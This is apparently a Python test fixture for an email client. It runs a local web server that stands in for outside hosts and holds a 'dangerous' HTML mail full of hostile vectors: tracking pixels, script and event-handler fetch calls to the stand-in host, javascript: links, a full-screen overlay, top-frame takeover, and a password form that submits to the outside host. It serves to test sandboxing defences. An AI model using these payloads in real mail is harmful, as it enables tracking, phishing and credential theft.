"""A web server that stands for the rest of the world, and a mail that tries to reach it."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Self


class Elsewhere:
    """Answers everything, and remembers what it was asked for; a context manager.

    `/naked` is the dangerous mail as a page of its own, in which it may do as it likes.
    """

    def __init__(self) -> None:
        self.asked: list[str] = []
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.01,))

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_port}"

    @property
    def mail(self) -> str:
        """HTML that tries whatever HTML may try."""
        return DANGEROUS.replace("ELSEWHERE", self.url)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        elsewhere = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                elsewhere.asked.append(self.path)
                body = elsewhere.mail.encode() if self.path == "/naked" else b"elsewhere"
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815  # the name that http.server calls

            def log_message(self, *_: object) -> None:
                """Keep quiet."""

        return Handler


DANGEROUS = """
<base href="ELSEWHERE/base/">
<link rel="stylesheet" href="ELSEWHERE/stylesheet">
<link rel="prefetch" href="ELSEWHERE/prefetch">
<style>
  @import url("ELSEWHERE/import");
  body { background: url("ELSEWHERE/background"); }
  #cover { position: fixed; inset: -2000px; z-index: 2147483647; background: red url("ELSEWHERE/cover"); }
</style>
<script>top.document.title = "taken over"; fetch("ELSEWHERE/fetch"); new Image().src = "ELSEWHERE/script";</script>
<script src="ELSEWHERE/script-src"></script>
<p id="words">The words of the mail.</p>
<div id="cover"></div>
<img src="ELSEWHERE/pixel" alt="">
<img src="data:image/png;base64,AAAA" onerror="fetch('ELSEWHERE/onerror')" alt="">
<svg onload="fetch('ELSEWHERE/onload')"></svg>
<video src="ELSEWHERE/video" autoplay muted></video>
<audio src="ELSEWHERE/audio" autoplay></audio>
<iframe src="ELSEWHERE/frame"></iframe>
<object data="ELSEWHERE/object"></object>
<embed src="ELSEWHERE/embed">
<form id="form" action="ELSEWHERE/form" target="_top"><input name="password"><button id="send">Confirm</button></form>
<form action="/sandbox/reply" method="post"><input name="from" value="+15005550100"><input name="body" value="x">
<button id="act">Act</button></form>
<a id="top" href="ELSEWHERE/top" target="_top">the whole page</a>
<a id="self" href="ELSEWHERE/self" target="_self">this frame</a>
<a id="code" href="javascript:fetch('ELSEWHERE/code')" target="_self">code</a>
<a id="honest" href="ELSEWHERE/honest">a link</a>
"""
